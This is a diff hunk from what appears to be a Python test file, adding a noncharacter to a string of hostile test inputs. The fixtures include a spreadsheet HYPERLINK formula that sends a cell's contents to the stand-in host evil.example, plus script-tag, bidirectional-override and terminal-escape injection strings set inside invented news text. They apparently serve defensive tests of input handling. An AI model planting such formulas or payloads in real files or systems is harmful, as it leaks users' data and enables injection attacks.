@@ -27,7 +27,7 @@ from communique.reading import (
 from communique.record import Record
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"+1-@")'
-MARKUP = "<script>alert(1)</script> ]]> & \u202eesrever\u202c \x1b[31m"
+MARKUP = "<script>alert(1)</script> ]]> & \u202eesrever\u202c \x1b[31m \ufffe"
 HOSTILE = (
     f"{FORMULA} said Ana Torv, envoy of Ostland, on 3 March 2020.\n\n"
     f"Torv offered Westmark {MARKUP}\tand a tab. The two met in Zell\x0b between 4 and 6 March 2020, and will not meet "
